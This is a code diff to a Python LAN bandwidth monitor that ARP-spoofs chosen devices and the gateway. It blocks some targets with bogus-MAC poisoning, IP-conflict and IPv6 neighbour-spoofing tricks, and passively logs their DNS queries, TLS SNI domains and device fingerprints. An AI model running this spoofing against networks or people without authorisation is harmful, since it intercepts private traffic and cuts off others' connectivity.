@@ -1,25 +1,47 @@
+import asyncio
+import collections
+import socket
 import threading
 import time
 import logging
 from scapy.all import ARP, Ether, send, sniff, conf, TCP, UDP, IP, IPv6, ICMP, ICMPv6DestUnreach, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6NDOptDstLLAddr
 from scapy.layers.dns import DNS, DNSQR
-from src.device_store import DeviceStore
+from src.device_store import DeviceStore, device_key
+from src.engine.tcpfp import TcpFingerprintDB, syn_signature
+from src.engine.dhcp import DHCPDISCOVER, DHCPINFORM, DHCPREQUEST, DhcpFingerprintDB, client_ip, fingerprint, parse_dhcp
+from src.engine import oui
+from src.engine.restore import restore_targets
+from src.engine.sweep import build_arp
 
 # Suppress scapy warnings
 logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
 logger = logging.getLogger(__name__)
 
 class BandwidthMonitor(threading.Thread):
-    def __init__(self, device_store: DeviceStore, gateway_ip: str, interface: str = None):
+    def __init__(self, device_store: DeviceStore, gateway_ip: str, interface: str = None, segment: str = ""):
         super().__init__()
         self.device_store = device_store
+        self.segment = segment # Store segment of the devices seen on `interface`
         self.gateway_ip = gateway_ip
+        self.host_ip = None
         self.interface = interface or conf.iface
         self.running = True
         self.targets = set() # IP addresses to monitor
         self.ipv6_targets = {} # Map MAC -> IPv6 address
         self.lock = threading.Lock()
         self.global_kill_switch = False
+        self.tcp_fingerprints = TcpFingerprintDB()
+        self.dhcp_fingerprints = DhcpFingerprintDB()
+        self._dhcp_os = {} # Device key -> OS from DHCP, preferred over the TCP guess
+        self.host_mac = None # Our MAC on `interface`; set by the coordinator
+        self.runtime = None # EngineRuntime when attached
+        self._inject = None # Raw AF_PACKET socket used for ARP when attached
+        self._resolving = {} # IP -> time of the last non-blocking who-has
+        self._parser = None
+        self._batches_submitted = 0
+        self._batches_done = 0
+        self.dropped_frames = 0
+        self.restores = collections.deque(maxlen=16) # Recent RestoreProgress, newest last
 
     def enable_monitoring(self, target_ip: str):
         with self.lock:
@@ -35,20 +57,24 @@ class BandwidthMonitor(threading.Thread):
         now = time.time()
         macs = []
         
-        for dev in self.device_store.get_all():
-            if dev.ip == ip:
-                if now - dev.last_seen < window_seconds:
-                    macs.append(dev.mac)
+        dev = self.device_store.get_by_ip(ip, self.segment)
+        if dev and now - dev.last_seen < window_seconds:
+            macs.append(dev.mac)
         
-        if not macs:
-            # 2. Try Scapy Active ARP
+        if not macs and self._inject is not None:
+            # 2a. Attached: ask without waiting; the passive ARP listener stores the answer
+            if now - self._resolving.get(ip, 0) >= 5:
+                self._resolving[ip] = now
+                self._send_arp(1, None, self.host_ip or "0.0.0.0", "00:00:00:00:00:00", ip)
+        elif not macs:
+            # 2b. Try Scapy Active ARP
             try:
                 from scapy.all import srp1
-                ans = srp1(Ether(dst="ff:ff:ff:ff:ff:ff")/ARP(pdst=ip), timeout=1, verbose=False)
+                ans = srp1(Ether(dst="ff:ff:ff:ff:ff:ff")/ARP(pdst=ip), iface=self.interface, timeout=1, verbose=False)
                 if ans:
                     mac = ans.hwsrc
                     # Update store for next time
-                    self.device_store.add_or_update(ip, mac)
+                    self.device_store.add_or_update(ip, mac, segment=self.segment)
                     macs.append(mac)
             except Exception:
                 pass
@@ -78,41 +104,38 @@ class BandwidthMonitor(threading.Thread):
         for mac in target_macs:
             self._spoof_with_mac(target_ip, mac, gateway_ip)
 
-    def _restore(self, target_ip, gateway_ip):
-        target_macs = self._get_macs(target_ip)
-        gateway_macs = self._get_macs(gateway_ip)
-        
-        if not target_macs or not gateway_macs:
-            return
-            
-        gw_mac = gateway_macs[0]
-        
-        for t_mac in target_macs:
-             # Restore target: Gateway is at GatewayMAC
-            send(ARP(op=2, pdst=target_ip, hwdst=t_mac, psrc=gateway_ip, hwsrc=gw_mac), count=3, verbose=False)
-            # Restore gateway: Target is at TargetMAC
-            send(ARP(op=2, pdst=gateway_ip, hwdst=gw_mac, psrc=target_ip, hwsrc=t_mac), count=3, verbose=False)
-
-    def _update_stats(self, packet):
-        # Callback for sniff
-        if not packet.haslayer(Ether):
+    def restore_all(self, targets=None, reason: str = "shutdown", budget: float = 1.0):
+        """
+        Points the gateway and every target (all monitored ones by default)
+        back at each other's real MACs, in one bounded parallel burst.
+        """
+        if targets is None:
+            with self.lock:
+                targets = list(self.targets)
+        progress = restore_targets(self.device_store, self.segment, self.interface, self.gateway_ip, targets,
+                                   host_ip=self.host_ip, host_mac=self.host_mac, reason=reason, budget=budget)
+        self._record_restore(progress)
+        return progress
+
+    def restore_stats(self) -> list:
+        return [progress.to_dict() for progress in self.restores]
+
+    def _send_arp(self, op, hwsrc, psrc, hwdst, pdst, count=1):
+        """
+        Sends an ARP packet. When attached this is a prebuilt frame written to
+        the non-blocking raw socket (hwsrc None = our own MAC); otherwise Scapy.
+        """
+        if self._inject is None:
+            kwargs = {"hwsrc": hwsrc} if hwsrc else {}
+            send(ARP(op=op, pdst=pdst, hwdst=hwdst, psrc=psrc, **kwargs), count=count, verbose=False)
             return
-            
-        length = len(packet)
-        src_mac = packet[Ether].src
-        dst_mac = packet[Ether].dst
-        
-        # Update devices based on flow
-        # If src_mac is in our store, it's an Upload (from device)
-        # If dst_mac is in our store, it's a Download (to device)
-        
-        # We find the device object
-        # Note: This is O(N) lookup per packet, optimize with a dict if map is large
-        # For home network (50 devices) it's likely fine, or use device_store.devices[mac]
-        
-        if src_mac in self.device_store.devices:
-            dev = self.device_store.devices[src_mac]
-            pass
+        eth_dst = hwdst if op == 2 and hwdst != "ff:ff:ff:ff:ff:ff" else "ff:ff:ff:ff:ff:ff"
+        frame = build_arp(op, self.host_mac, eth_dst, hwsrc or self.host_mac, psrc, hwdst, pdst)
+        for _ in range(count):
+            try:
+                self._inject.send(frame)
+            except BlockingIOError:
+                self.dropped_frames += 1 # Transmit queue full; the next tick resends
 
     def block_target(self, target_ip):
         # We rely on the loop checking device.is_blocked
@@ -125,10 +148,7 @@ class BandwidthMonitor(threading.Thread):
         Immediately send corrective ARPs to restore connectivity.
         Uses proper peer-to-peer restoration, not MITM packets.
         """
-        # Trigger full restoration burst
-        for _ in range(10): # Increased burst for reliability
-            self._restore(target_ip, self.gateway_ip)
-            time.sleep(0.1)
+        return self.restore_all([target_ip], reason="unblock")
 
     def _spoof_with_mac(self, target_ip, target_mac, gateway_ip):
         gateway_mac = self._get_macs(gateway_ip)
@@ -137,9 +157,9 @@ class BandwidthMonitor(threading.Thread):
         
         try:
             # Tell target I am gateway
-            send(ARP(op=2, pdst=target_ip, hwdst=target_mac, psrc=gateway_ip), verbose=False)
+            self._send_arp(2, None, gateway_ip, target_mac, target_ip)
             # Tell gateway I am target
-            send(ARP(op=2, pdst=gateway_ip, hwdst=gw_mac, psrc=target_ip), verbose=False)
+            self._send_arp(2, None, target_ip, gw_mac, gateway_ip)
         except Exception as e:
             if "permission" in str(e).lower():
                 self.running = False # Stop if we can't send
@@ -212,9 +232,10 @@ class BandwidthMonitor(threading.Thread):
         # Enable IP forwarding
         self._enable_ip_forwarding()
         
-        # Determine host IP to exclude
-        host_ip = self._get_host_ip()
-        logging.info(f"Monitor engine running. Interface: {self.interface}, Host IP: {host_ip}")
+        # Determine host IP to exclude (kept current by the coordinator on address changes)
+        if not self.host_ip:
+            self.host_ip = self._get_host_ip()
+        logging.info(f"Monitor engine running. Interface: {self.interface}, Host IP: {self.host_ip}")
 
         # Start Sniffer Thread
         sniffer = threading.Thread(target=self._sniff_loop)
@@ -224,40 +245,137 @@ class BandwidthMonitor(threading.Thread):
         last_slow_tick = 0
         while self.running:
             current_tick = time.time()
-            
-            # 1. Take a snapshot of targets to minimize lock hold time
-            with self.lock:
-                current_targets = list(self.targets)
-            
-            # 2. Iterate outside the lock
-            for target_ip in current_targets:
-                if not self.running: break
+            slow = current_tick - last_slow_tick >= 2.0
+            self._spoof_tick(slow)
+            if slow:
+                last_slow_tick = current_tick
                 
-                # Never spoof/block the host machine or the gateway itself as a target
-                if target_ip == host_ip or target_ip == self.gateway_ip:
-                    continue
+            time.sleep(0.5) # Fast tick for active blocks
 
-                try:
-                    # BLOCKING IO: _get_macs performs srp1 (ARP request)
-                    macs = self._get_macs(target_ip)
-                    for mac in macs:
-                        dev = self.device_store.devices.get(mac)
-                        if not dev: continue
-                        
-                        if self.should_block(dev):
-                            # Blocked devices get high-frequency poisoning (every 0.5s)
-                            self._spoof_block_with_mac(target_ip, mac, self.gateway_ip)
-                        elif current_tick - last_slow_tick >= 2.0:
-                            # Normal monitored devices get low-frequency spoofing (every 2s)
-                            # BLOCKING IO: _spoof_with_mac performs send()
-                            self._spoof_with_mac(target_ip, mac, self.gateway_ip)
-                except Exception:
-                    pass
+    def _spoof_tick(self, slow: bool):
+        """One pass over the targets: blocked ones every tick, monitored ones when `slow`."""
+        # 1. Take a snapshot of targets to minimize lock hold time
+        with self.lock:
+            current_targets = list(self.targets)
+        
+        # 2. Iterate outside the lock
+        for target_ip in current_targets:
+            if not self.running: break
             
-            if current_tick - last_slow_tick >= 2.0:
+            # Never spoof/block the host machine or the gateway itself as a target
+            if target_ip == self.host_ip or target_ip == self.gateway_ip:
+                continue
+
+            try:
+                # BLOCKING IO in thread mode: _get_macs performs srp1 (ARP request)
+                macs = self._get_macs(target_ip)
+                for mac in macs:
+                    dev = self.device_store.get(device_key(mac, self.segment))
+                    if not dev: continue
+                    
+                    if self.should_block(dev):
+                        # Blocked devices get high-frequency poisoning (every 0.5s)
+                        self._spoof_block_with_mac(target_ip, mac, self.gateway_ip)
+                    elif slow:
+                        # Normal monitored devices get low-frequency spoofing (every 2s)
+                        self._spoof_with_mac(target_ip, mac, self.gateway_ip)
+            except Exception:
+                pass
+
+    def attach(self, runtime):
+        """
+        Runs the monitor on an EngineRuntime: ARP goes out as prebuilt frames
+        on one non-blocking raw socket, spoofing is a timer task, and captured
+        frames are handed in batches to a single parser thread, which keeps
+        one writer per counter as in thread mode. Falls back to `start()`
+        where raw sockets aren't available.
+        """
+        import concurrent.futures
+        if not self.host_mac:
+            try:
+                with open(f"/sys/class/net/{self.interface}/address") as f:
+                    self.host_mac = f.read().strip()
+            except OSError:
+                pass
+        try:
+            inject = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+            inject.bind((str(self.interface), 0))
+            capture = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)) # ETH_P_ALL
+            capture.bind((str(self.interface), 0x0003))
+        except (OSError, AttributeError) as e:
+            logger.warning(f"Raw sockets unavailable ({e}); monitor runs as a thread")
+            self.start()
+            return
+        if not self.host_mac:
+            inject.close()
+            capture.close()
+            logger.warning(f"No MAC known for {self.interface}; monitor runs as a thread")
+            self.start()
+            return
+
+        self._enable_ip_forwarding()
+        if not self.host_ip:
+            self.host_ip = self._get_host_ip()
+        inject.setblocking(False)
+        self._inject = inject
+        self.runtime = runtime
+        self._parser = concurrent.futures.ThreadPoolExecutor(max_workers=1, thread_name_prefix=f"capture-{self.interface}")
+        runtime.on_stop(inject.close)
+        runtime.on_stop(lambda: self._parser.shutdown(wait=False, cancel_futures=True))
+        runtime.add_reader(capture, lambda: self._on_frames(capture))
+        runtime.spawn(f"monitor:{self.segment or 'primary'}", self._serve_spoofing)
+        logger.info(f"Monitor engine attached. Interface: {self.interface}, Host IP: {self.host_ip}")
+
+    async def _serve_spoofing(self):
+        last_slow_tick = 0
+        while self.running:
+            current_tick = time.time()
+            slow = current_tick - last_slow_tick >= 2.0
+            self._spoof_tick(slow)
+            if slow:
                 last_slow_tick = current_tick
-                
-            time.sleep(0.5) # Fast tick for active blocks
+            await asyncio.sleep(0.5) # Fast tick for active blocks
+
+    MAX_PARSE_BACKLOG = 64 # Batches; beyond this the parser can't keep up and frames are dropped
+
+    def _on_frames(self, sock):
+        """Drains the capture socket and queues IP/IPv6 frames for parsing."""
+        batch = []
+        while len(batch) < 256:
+            try:
+                frame = sock.recv(65535)
+            except (BlockingIOError, InterruptedError):
+                break
+            except OSError as e:
+                logger.error(f"Capture socket error: {e}")
+                self.runtime.remove_reader(sock)
+                break
+            if frame[12:14] in (b"\x08\x00", b"\x86\xdd"):
+                batch.append(frame)
+        if not batch or not self.running:
+            return
+        if self._batches_submitted - self._batches_done >= self.MAX_PARSE_BACKLOG:
+            self.dropped_frames += len(batch)
+            return
+        self._batches_submitted += 1
+        self._parser.submit(self._parse_batch, batch)
+
+    def _parse_batch(self, batch):
+        try:
+            for frame in batch:
+                try:
+                    self._process_packet(Ether(frame))
+                except Exception as e:
+                    logger.debug(f"Packet processing failed: {e}")
+        finally:
+            self._batches_done += 1
+
+    def capture_stats(self) -> dict:
+        return {
+            "attached": self.runtime is not None,
+            "parse_backlog": self._batches_submitted - self._batches_done,
+            "dropped_frames": self.dropped_frames,
+        }
 
     def _spoof_block_with_mac(self, target_ip, target_mac, gateway_ip):
         gateway_macs = self._get_macs(gateway_ip)
@@ -269,18 +387,22 @@ class BandwidthMonitor(threading.Thread):
         bogus_mac = "00:00:00:00:00:01" 
         
         # 1. Standard ARP Poison (Tell target gateway is at bogus)
-        send(ARP(op=2, pdst=target_ip, hwdst=target_mac, psrc=gateway_ip, hwsrc=bogus_mac), count=1, verbose=False)
+        self._send_arp(2, bogus_mac, gateway_ip, target_mac, target_ip)
         # 2. Tell gateway target is at bogus
-        send(ARP(op=2, pdst=gateway_ip, hwdst=gw_mac, psrc=target_ip, hwsrc=bogus_mac), count=1, verbose=False)
+        self._send_arp(2, bogus_mac, target_ip, gw_mac, gateway_ip)
         
         # 3. Aggressive "IP Conflict" Trick
-        send(ARP(op=2, psrc=target_ip, hwsrc="00:00:00:00:00:02", pdst=target_ip, hwdst="ff:ff:ff:ff:ff:ff"), count=1, verbose=False)
+        self._send_arp(2, "00:00:00:00:00:02", target_ip, "ff:ff:ff:ff:ff:ff", target_ip)
         
         # 4. IPv6 Block (the "iPhone Loophole")
         target_v6 = self.ipv6_targets.get(target_mac)
         if target_v6:
             # Fix: Pass target_v6 as target_v6, NOT target_mac
-            self._spoof_block_v6(target_v6, target_v6)
+            if self.runtime:
+                # Scapy's L3 send routes and resolves synchronously; keep it off the loop
+                self.runtime.loop.run_in_executor(self.runtime.executor, self._spoof_block_v6, target_v6, target_v6)
+            else:
+                self._spoof_block_v6(target_v6, target_v6)
 
     def _spoof_block_v6(self, target_v6, requested_v6):
         """
@@ -334,31 +456,44 @@ class BandwidthMonitor(threading.Thread):
         dst_mac = pkt[Ether].dst
         length = len(pkt)
         now = time.time()
+        src_key = device_key(src_mac, self.segment)
+        dst_key = device_key(dst_mac, self.segment)
+        
+        # Lock-free lookups against the published store view
+        devices = self.device_store.view.devices
         
         # IPv6 Detection & Discovery
         if pkt.haslayer(IPv6):
-            if src_mac in self.device_store.devices:
-                self.ipv6_targets[src_mac] = pkt[IPv6].src
+            if src_key in devices and self.ipv6_targets.get(src_mac) != pkt[IPv6].src:
+                self._record_ipv6(src_mac, pkt[IPv6].src)
                 
             # If target is looking for its gateway via Neighbor Solicitation, poison it instantly
             if pkt.haslayer(ICMPv6ND_NS) and dst_mac == "ff:ff:ff:ff:ff:ff": # Multicast discovery
                  # We can't know for sure if it's the gateway being asked for 
                  # without knowing the gateway v6, but we can poison the reply 
                  # to the target if the target is one of our blocked ones.
-                 if dst_mac in self.device_store.devices: # Wait, dst_mac is multicast here
+                 if dst_mac in devices: # Wait, dst_mac is multicast here
                      pass
                  
                  # Better: If we see a solicitation FROM a blocked target, 
                  # send an unsolicited advertisement to it for the target it's looking for.
-                 target_dev = self.device_store.devices.get(src_mac)
+                 target_dev = devices.get(src_key)
                  if target_dev and self.should_block(target_dev):
                       requested_v6 = pkt[ICMPv6ND_NS].tgt
                       self._spoof_block_v6(pkt[IPv6].src, requested_v6)
         
+        # DHCP from clients, including ones the store hasn't seen yet
+        if pkt.haslayer(UDP) and pkt[UDP].sport == 68 and pkt[UDP].dport == 67:
+            try:
+                self._process_dhcp(bytes(pkt[UDP].payload))
+            except Exception as e:
+                logger.debug(f"DHCP parse failed: {e}")
+
         # Upload Analysis
-        if src_mac in self.device_store.devices:
-            dev = self.device_store.devices[src_mac]
+        if src_key in devices:
+            dev = devices[src_key]
             dev.last_seen = now
+            self.device_store.mark_dirty(src_key)
             
             # Active Blocking Feedback (ICMP Reject)
             if self.should_block(dev):
@@ -371,20 +506,24 @@ class BandwidthMonitor(threading.Thread):
                     reject = IPv6(src=pkt[IPv6].dst, dst=pkt[IPv6].src)/ICMPv6DestUnreach(type=1, code=1)/pkt[IPv6]
                     send(reject, verbose=False)
 
-            if not hasattr(dev, "total_up"): dev.total_up = 0
-            dev.total_up += length
+            self._record_traffic(dev, up=length)
+
+            # Passive OS detection from the SYN's TCP/IP parameters (p0f-style)
+            if pkt.haslayer(TCP) and (int(pkt[TCP].flags) & 0x12) == 0x02:
+                self._fingerprint_syn(dev, pkt)
             
             # Check for SNI (TLS Client Hello) - TCP 443
             if pkt.haslayer(TCP) and pkt[TCP].dport == 443:
                  try:
                      payload = bytes(pkt[TCP].payload)
                      domain = self._extract_sni(payload)
+                     if domain and "tls" not in dev.fingerprints:
+                         # Identity signal for MAC-rotation merging (src/identity.py)
+                         tls_fp = self._client_hello_fingerprint(payload)
+                         if tls_fp:
+                             self._record_fingerprint(dev, "tls", tls_fp)
                      if domain:
-                         dev.last_sni = domain
-                         if domain not in dev.domains:
-                             dev.domains.append(domain)
-                             if len(dev.domains) > 20: 
-                                 dev.domains.pop(0)
+                         self._record_domain(dev, domain)
                  except:
                      pass
             
@@ -394,20 +533,117 @@ class BandwidthMonitor(threading.Thread):
                     if pkt.haslayer(DNS) and pkt.haslayer(DNSQR):
                         query = pkt[DNSQR].qname.decode("utf-8").rstrip(".")
                         if query:
-                            dev.last_sni = query # Fallback/Alternative to SNI
-                            if query not in dev.domains:
-                                dev.domains.append(query)
-                                if len(dev.domains) > 20:
-                                    dev.domains.pop(0)
+                            self._record_domain(dev, query) # Fallback/Alternative to SNI
                 except:
                     pass
             
         # Download Analysis
-        if dst_mac in self.device_store.devices:
-            dev = self.device_store.devices[dst_mac]
+        if dst_key in devices:
+            dev = devices[dst_key]
             dev.last_seen = now
-            if not hasattr(dev, "total_down"): dev.total_down = 0
-            dev.total_down += length
+            self.device_store.mark_dirty(dst_key)
+            self._record_traffic(dev, down=length)
+
+    # Per-packet results go through these so a capture child process
+    # (src/engine/capture.py) can forward them to the web process.
+
+    def _record_traffic(self, dev, up: int = 0, down: int = 0):
+        dev.add_traffic(up=up, down=down)
+
+    def _record_domain(self, dev, domain: str):
+        dev.last_sni = domain
+        if domain not in dev.domains:
+            dev.domains.append(domain)
+            if len(dev.domains) > 20:
+                dev.domains.pop(0)
+            dev.signals_changed()
+
+    def _record_fingerprint(self, dev, kind: str, value: str):
+        if dev.fingerprints.get(kind) != value:
+            dev.fingerprints[kind] = value
+            dev.signals_changed()
+
+    def _record_ipv6(self, mac: str, address: str):
+        self.ipv6_targets[mac] = address
+
+    def _record_restore(self, progress):
+        self.restores.append(progress)
+
+    def _process_dhcp(self, payload):
+        info = parse_dhcp(payload)
+        if not info or info["message_type"] not in (DHCPDISCOVER, DHCPREQUEST, DHCPINFORM):
+            return
+        mac = info["mac"]
+        ip = client_ip(info)
+        if ip:
+            # The client is joining (or renewing) right now; don't wait for a sweep
+            self.device_store.add_or_update(ip, mac, oui.get_vendor(mac), segment=self.segment)
+        key = device_key(mac, self.segment)
+        dev = self.device_store.get(key)
+        if dev is None:
+            return # DISCOVER from a client we've never seen: no address to attach it to yet
+
+        if info["param_list"]:
+            self._record_fingerprint(dev, "dhcp", fingerprint(info["param_list"]))
+        if info["vendor_class"]:
+            self._record_fingerprint(dev, "dhcp_vendor", info["vendor_class"])
+        self.device_store.mark_dirty(key)
+        self.device_store.update_discovery_info(key, hostname=info["hostname"])
+
+        os_name = self.dhcp_fingerprints.lookup(info)
+        if os_name:
+            self._dhcp_os[key] = os_name
+            self.device_store.set_os_guess(key, os_name)
+
+    def _fingerprint_syn(self, dev, pkt):
+        try:
+            ttl = pkt[IP].ttl if pkt.haslayer(IP) else pkt[IPv6].hlim
+            signature = syn_signature(ttl, pkt[TCP].window, pkt[TCP].options)
+        except Exception:
+            return
+        if dev.fingerprints.get("tcp") == signature:
+            return # Same stack as last time, nothing to look up
+        self._record_fingerprint(dev, "tcp", signature)
+        os_name = self.tcp_fingerprints.lookup(signature)
+        if os_name and dev.key not in self._dhcp_os:
+            self.device_store.set_os_guess(dev.key, os_name)
+
+    def _client_hello_fingerprint(self, payload):
+        """
+        JA3-style fingerprint of a TLS Client Hello: version, cipher suites and
+        extension order, with GREASE values removed. Returns an md5 hex digest.
+        """
+        import hashlib
+        try:
+            if len(payload) < 50 or payload[0] != 0x16 or payload[5] != 0x01:
+                return None
+            version = int.from_bytes(payload[9:11], 'big')
+            cursor = 5 + 4 + 2 + 32
+            cursor += 1 + payload[cursor] # Session ID
+
+            cipher_len = int.from_bytes(payload[cursor:cursor+2], 'big')
+            cursor += 2
+            ciphers = [int.from_bytes(payload[i:i+2], 'big') for i in range(cursor, cursor + cipher_len, 2)]
+            cursor += cipher_len
+            cursor += 1 + payload[cursor] # Compression
+
+            extensions = []
+            if cursor + 2 <= len(payload):
+                end = cursor + 2 + int.from_bytes(payload[cursor:cursor+2], 'big')
+                cursor += 2
+                while cursor + 4 <= min(end, len(payload)):
+                    extensions.append(int.from_bytes(payload[cursor:cursor+2], 'big'))
+                    cursor += 4 + int.from_bytes(payload[cursor+2:cursor+4], 'big')
+
+            is_grease = lambda v: (v & 0x0f0f) == 0x0a0a
+            fields = [
+                str(version),
+                "-".join(str(c) for c in ciphers if not is_grease(c)),
+                "-".join(str(e) for e in extensions if not is_grease(e)),
+            ]
+            return hashlib.md5(",".join(fields).encode()).hexdigest()
+        except Exception:
+            return None
 
     def _extract_sni(self, payload):
         """